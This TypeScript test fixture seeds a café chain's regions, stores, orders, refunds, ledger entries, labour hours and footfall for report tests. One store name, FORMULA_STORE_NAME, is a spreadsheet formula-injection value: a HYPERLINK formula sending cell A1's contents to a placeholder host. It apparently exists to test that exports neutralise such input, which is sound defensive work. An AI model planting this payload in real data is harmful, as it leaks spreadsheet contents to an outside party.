import type { BohClient } from '@boh/sdk';
import { anOrder, receiveStock, seedCafe } from '../sales/support.js';

/** The store name of the field case of formula injection: a spreadsheet would run it as a formula. */
export const FORMULA_STORE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")';

/**
 * A small chain for report tests: the café stores 0001 (120 m², brand Bean) and 0002 (80 m²,
 * brand Bean) in region EAST, and 0003 in region NORTH with a name that looks like a formula and
 * no area. Sales in January and February 2024 with refunds, waste, labour hours and footfall for
 * some stores only, and manual ledger entries for rent and labour (on the seeded sub-accounts
 * 5601.02 and 5601.01) and head-office costs.
 */
export async function seedChain(boh: BohClient): Promise<void> {
  await boh.regions.create({ code: 'EAST', name: '华东区' });
  await boh.regions.create({ code: 'NORTH', name: '华北区' });
  await seedCafe(boh);
  await boh.stores.update('0001', { region_code: 'EAST', brand: 'Bean', area_m2: 120 });
  await boh.stores.update('0002', { region_code: 'EAST', brand: 'Bean', area_m2: 80 });
  await boh.stores.create({ code: '0003', name: FORMULA_STORE_NAME, region_code: 'NORTH', brand: 'Leaf' });
  for (const store of ['0001', '0002', '0003']) {
    await receiveStock(boh, store, '2023-12-20T02:00:00Z');
    await receiveStock(boh, store, '2024-01-15T02:00:00Z');
  }

  const latte = (quantity: number) => ({ menu_item_code: 'LATTE', quantity, unit_price_fen: 3200 });
  const vanilla = (quantity: number) => ({ menu_item_code: 'VANILLA', quantity, unit_price_fen: 3600 });
  const water = (quantity: number) => ({ item_code: 'WATER', quantity, unit_price_fen: 300 });
  await boh.orders.postBatch([
    anOrder('0001', 'A-1', '2024-01-05T02:00:00Z', [latte(2), water(1)], { guests: 2 }),
    anOrder('0001', 'A-2', '2024-01-06T05:30:00Z', [vanilla(1)]),
    { ...anOrder('0001', 'A-3', '2024-01-20T11:00:00Z', [latte(3)]), channel: 'delivery_meituan', payments: [{ method: 'platform', amount_fen: 9600 }] },
    { ...anOrder('0002', 'B-1', '2024-01-10T03:00:00Z', [latte(1), vanilla(1)]), payments: [{ method: 'cash', amount_fen: 6800 }] },
    { ...anOrder('0002', 'B-2', '2024-01-31T15:50:00Z', [water(4)]), channel: 'takeaway', payments: [{ method: 'alipay', amount_fen: 1200 }] },
    anOrder('0003', 'C-1', '2024-01-12T04:00:00Z', [latte(1)], { discount_fen: 200 }),
    anOrder('0001', 'A-4', '2024-02-03T02:00:00Z', [latte(4)]),
    anOrder('0002', 'B-3', '2024-02-04T06:00:00Z', [vanilla(2), water(2)]),
  ]);
  await boh.orders.refund('0001', 'A-1', { refund_number: 'R-1', refunded_at: '2024-01-07T03:00:00Z', lines: [{ line_number: 1, quantity: 1 }] });
  // More refunded on 0003 in January than it sold, so its January sales are negative.
  await boh.orders.postBatch([anOrder('0003', 'C-0', '2023-12-28T04:00:00Z', [latte(2)])]);
  await boh.orders.refund('0003', 'C-0', { refund_number: 'R-2', refunded_at: '2024-01-13T03:00:00Z', lines: [{ line_number: 1, quantity: 2 }] });

  await boh.stock.postDocument({ kind: 'waste', store_code: '0001', occurred_at: '2024-01-25T08:00:00Z', lines: [{ item_code: 'MILK', quantity: 500 }] });

  await boh.ledger.entries.create({ entry_date: '2024-01-31', store_code: '0001', memo: '1月房租', lines: [{ account_code: '5601.02', debit_fen: 1_000_000 }, { account_code: '1002', credit_fen: 1_000_000, store_code: null }] });
  await boh.ledger.entries.create({ entry_date: '2024-01-31', store_code: '0002', memo: '1月工资', lines: [{ account_code: '5601.01', debit_fen: 500_000 }, { account_code: '2211', credit_fen: 500_000 }] });
  await boh.ledger.entries.create({ entry_date: '2024-01-31', memo: '总部办公费', lines: [{ account_code: '5602.99', debit_fen: 30_000 }, { account_code: '1002', credit_fen: 30_000 }] });

  await boh.reports.recordLabourHours([
    { store_code: '0001', business_date: '2024-01-05', role: 'barista', hours: 16, cost_fen: 48_000 },
    { store_code: '0001', business_date: '2024-01-06', role: 'barista', hours: 12.5, cost_fen: 37_500 },
    { store_code: '0001', business_date: '2024-01-06', role: 'manager', hours: 8, cost_fen: 40_000 },
  ]);
  await boh.reports.recordFootfall([
    { store_code: '0001', business_date: '2024-01-05', visitors: 40 },
    { store_code: '0001', business_date: '2024-01-06', visitors: 35 },
    { store_code: '0002', business_date: '2024-01-10', hour: 11, visitors: 9 },
    { store_code: '0002', business_date: '2024-01-10', hour: 12, visitors: 11 },
  ]);
}
